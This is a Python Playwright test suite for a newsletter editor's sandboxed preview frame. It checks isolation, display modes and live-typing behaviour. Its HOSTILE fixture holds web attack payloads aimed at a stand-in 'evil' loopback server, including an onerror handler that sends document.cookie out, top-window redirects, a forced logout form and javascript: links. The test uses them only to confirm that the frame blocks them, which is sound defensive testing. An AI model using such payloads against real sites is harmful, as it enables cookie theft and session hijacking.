from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from digest.compose import lifecycle
from digest.db.accounts import Role
from tests.compose.screens import NEEDS_CHROMIUM
from tests.fakes.editions import SLUG
from tests.fakes.server import LoopbackServer, http
from tests.web.desk.browsing import browsing

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, FrameLocator, Page, Route

    from digest.engine.installation import Installation
    from tests.fakes.desk import Desk

pytestmark = NEEDS_CHROMIUM

BOARD = f"/desk/newsletters/{SLUG}/editions/1"

HOSTILE = """<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url={evil}/refresh">
<link rel="stylesheet" href="{evil}/sheet"><link rel="prefetch" href="{evil}/prefetch">
<link rel="preconnect" href="{evil}"><link rel="icon" href="{evil}/icon">
<style>@import url({evil}/import); @font-face {{ font-family: x; src: url({evil}/font) }}
body {{ font-family: x; background: url({evil}/background), url(/desk/account) }}</style>
<base href="{evil}/">
</head><body onload="parent.document.title = 'reached'; document.title = 'ran'">
<script>parent.document.title = 'reached'; fetch('/desk/account'); top.location = '{evil}/top'</script>
<script src="{evil}/script"></script>
<img src="{evil}/pixel" onerror="fetch('{evil}/' + document.cookie)"><img src="/desk/account">
<svg onload="top.location = '{evil}/svg'"><image href="{evil}/svg-image"/></svg>
<iframe src="{evil}/frame"></iframe><iframe srcdoc="<script>top.location='{evil}/srcdoc'</script>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed">
<video src="{evil}/video" poster="{evil}/poster" autoplay></video>
<form action="{evil}/form" method="post"><input name="q" autofocus><button id="send">send</button></form>
<form action="/desk/logout" method="post" target="_top"><button id="logout">log out</button></form>
<a id="top" href="{evil}/link-top" target="_top">top</a> <a id="self" href="{evil}/link-self">self</a>
<a id="desk" href="/desk/account" target="_parent">desk</a> <a id="new" href="{evil}/new" target="_blank">new</a>
<a id="run" href="javascript:parent.document.title='reached'">run</a>
<p id="end">The end</p></body></html>"""


@pytest.fixture
def evil() -> Iterator[LoopbackServer]:
    """A stranger's server, which answers nothing and writes down who asks."""
    with LoopbackServer().running() as server:
        yield server


@pytest.fixture
def page(browser: Browser, desk: Desk) -> Iterator[Page]:
    """An approver's browser, wide enough for three panes."""
    with browsing(browser, desk, Role.APPROVER, viewport={"width": 1440, "height": 900}) as made:
        yield made


def framed(page: Page) -> FrameLocator:
    """What is in the frame that is shown, from when none is to take its place."""
    expect(page.locator(".screen iframe")).to_have_count(1, timeout=20_000)
    return page.frame_locator(".screen iframe:not(.coming)").last


def put_html(installation: Installation, html: str) -> None:
    with installation.database.write() as session:
        lifecycle.find(session, SLUG, "1").html = html


@pytest.mark.parametrize("script", [True, False], ids=["script", "no-script"])
def test_nothing_in_the_frame_reaches_the_desk_or_anybody_else(
    browser: Browser, desk: Desk, installation: Installation, evil: LoopbackServer, *, script: bool
) -> None:
    put_html(installation, HOSTILE.format(evil=evil.url("").rstrip("/")))
    with browsing(browser, desk, Role.APPROVER, script=script, viewport={"width": 1440, "height": 900}) as page:
        asked: list[str] = []
        page.goto(BOARD, wait_until="domcontentloaded")  # what is in the frame may keep it from ever being loaded
        framed(page).locator("#end").wait_for()
        title, address = page.title(), page.url
        page.context.on("request", lambda request: asked.append(request.url))
        opened: list[Page] = []
        page.context.on("page", lambda other: opened.append(other))  # noqa: PLW0108 - it marks what it is given
        for name in ("send", "logout", "top", "self", "desk", "new", "run"):
            framed(page).locator(f"#{name}").click(force=True)  # it need not be painted twice to stand still
            page.wait_for_timeout(100)
        page.wait_for_timeout(500)
        framed(page).locator("#end").wait_for()
        assert (page.title(), page.url) == (title, address)
        assert evil.requests == []
        assert [url for url in asked if "account" in url or "logout" in url] == []
        assert opened == []
        assert page.goto("/desk/account") is not None  # nobody was logged out
        assert "/login" not in page.url


def test_the_frame_is_of_an_origin_of_its_own_without_script(page: Page) -> None:
    page.goto(BOARD)
    assert page.locator(".screen iframe").get_attribute("sandbox") == ""
    assert page.evaluate("document.querySelector('.screen iframe').contentDocument") is None


def test_a_picture_that_a_story_or_a_template_names_is_not_fetched(
    page: Page, installation: Installation, evil: LoopbackServer
) -> None:
    put_html(installation, f'<p id="end">x</p><img src="{evil.says("/logo.png", http())}">')
    page.goto(BOARD)
    framed(page).locator("#end").wait_for()
    page.wait_for_timeout(300)
    assert evil.requests == []


def test_the_modes_change_without_loading_the_page_anew_and_stay_in_the_address(page: Page) -> None:
    page.goto(BOARD)
    page.evaluate("window.same = true")
    frame = page.locator(".screen iframe:not(.coming)").last
    assert frame.evaluate("frame => frame.clientWidth") == 375
    ground = "document => getComputedStyle(document.body).backgroundColor"

    page.get_by_role("button", name="Dark").click()
    page.locator("iframe[data-address*='dark=1']:not(.coming)").wait_for()
    assert framed(page).locator("body").evaluate("body => getComputedStyle(body).colorScheme") == "dark"
    dark = framed(page).locator("body").evaluate(f"body => ({ground})(body.ownerDocument)")

    page.get_by_role("button", name="Desktop").click()
    assert frame.evaluate("frame => frame.clientWidth") == 700
    box = frame.bounding_box()
    assert box is not None
    assert box["width"] < 500  # scaled down to the pane

    page.get_by_role("button", name="No images").click()
    page.get_by_role("button", name="Plain text").click()
    framed(page).locator("pre").wait_for()
    assert page.url.endswith(f"{BOARD}?view=desktop&form=text&dark=1&images=0")
    assert page.evaluate("window.same")
    pressed = page.locator(".modes [aria-pressed=true]").all_inner_texts()
    assert pressed == ["Desktop", "Dark", "No images", "Plain text"]

    page.get_by_role("button", name="Email").press("Space")
    page.get_by_role("button", name="Dark").press("Enter")
    framed(page).locator("h1").wait_for()
    page.locator("iframe[data-address*='dark=0']:not(.coming)").wait_for()
    assert framed(page).locator("body").evaluate(f"body => ({ground})(body.ownerDocument)") != dark
    assert page.url.endswith(f"{BOARD}?view=desktop&images=0")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_frame_shows_the_scheme_that_is_asked_for_whatever_the_browsers_own(
    browser: Browser, desk: Desk, scheme: str
) -> None:
    colours = {}
    with browsing(browser, desk, Role.VIEWER, color_scheme=scheme, script=False) as page:
        for dark in (0, 1):
            page.goto(f"{BOARD}?dark={dark}")
            heading = framed(page).locator("h1")
            colours[dark] = heading.evaluate("heading => getComputedStyle(heading).color")
    assert colours == {0: "rgb(31, 28, 24)", 1: "rgb(236, 230, 220)"}


def test_images_off_shows_their_words(page: Page) -> None:
    page.goto(f"{BOARD}?images=0")
    image = framed(page).locator("img").first
    image.wait_for(state="attached")
    assert image.evaluate("image => image.naturalWidth") == 0
    assert image.get_attribute("alt")
    page.goto(BOARD)
    framed(page).locator("img").first.evaluate("image => image.decode()")


def test_without_script_the_modes_are_links(browser: Browser, desk: Desk) -> None:
    with browsing(browser, desk, Role.VIEWER, script=False, viewport={"width": 375, "height": 800}) as page:
        page.goto(BOARD)
        for name in ("Desktop", "Dark", "Plain text"):
            page.get_by_role("link", name=name, exact=True).click()
        expect(framed(page).locator("pre")).to_be_visible()
        assert page.locator(".modes [aria-current]").all_inner_texts() == ["Desktop", "Dark", "Plain text"]
        assert page.evaluate("document.documentElement.scrollWidth") == 375


def test_what_is_typed_is_seen_in_its_story_while_typing_goes_on(page: Page) -> None:
    page.goto(BOARD)
    framed(page).locator("#item-3").wait_for()
    before = page.evaluate("history.length")
    field = page.locator("#item-3 textarea").first
    field.click()
    page.keyboard.press("Control+End")
    page.keyboard.type(" at dawn", delay=20)
    framed(page).get_by_text("loads its first ship at dawn").wait_for()
    top = framed(page).locator("#item-3").evaluate("story => story.getBoundingClientRect().top")
    assert -5 < top < 400  # scrolled to it
    page.keyboard.type(", and on")
    framed(page).get_by_text("first ship at dawn, and on").wait_for()
    assert field.input_value().endswith("first ship at dawn, and on")
    assert field.evaluate("field => field === document.activeElement")
    assert page.evaluate("history.length") == before
    assert page.evaluate("[scrollX, scrollY]") == [0, 0]
    assert page.locator(".screen iframe:not(.coming)").count() == 1


def test_the_frame_follows_the_editor(page: Page) -> None:
    page.set_viewport_size({"width": 1440, "height": 600})
    page.goto(BOARD)
    story = framed(page).locator("#item-3")
    story.wait_for()
    away = story.evaluate("story => story.getBoundingClientRect().top")
    before = page.evaluate("history.length")
    page.locator("#item-3 textarea").first.focus()
    page.wait_for_timeout(300)
    assert story.evaluate("story => story.getBoundingClientRect().top") < away
    page.locator("#subject").focus()
    page.wait_for_timeout(300)
    assert story.evaluate("story => story.getBoundingClientRect().top") == away
    assert page.evaluate("history.length") == before


def test_the_frame_follows_an_editor_who_goes_on_while_it_loads(page: Page) -> None:
    page.goto(BOARD)
    framed(page).locator("#item-3").wait_for()
    held: list[Route] = []
    page.route("**/frame/items/*", lambda route: held.append(route))  # noqa: PLW0108 - it marks what it is given
    with page.expect_request("**/frame/items/*"):
        page.locator("#item-1 textarea").first.fill("Another headline")
    page.locator("#item-3 textarea").first.focus()
    page.wait_for_timeout(100)
    held[0].continue_()
    framed(page).get_by_role("heading", name="Another headline").wait_for()


def test_who_starts_at_once_does_not_make_the_first_frame_load_anew(page: Page) -> None:
    asked: list[Route] = []

    def hold(route: Route) -> None:
        asked.append(route)

    page.route("**/frame?*", hold)
    page.goto(BOARD, wait_until="commit")
    page.locator("[data-modes] a[role=button]").first.wait_for()
    page.locator("#item-2-headline").focus()
    page.wait_for_timeout(300)
    assert len(asked) == 1
    asked[0].continue_()
    expect(framed(page).locator("#item-2")).to_be_in_viewport()
    assert len(asked) == 1
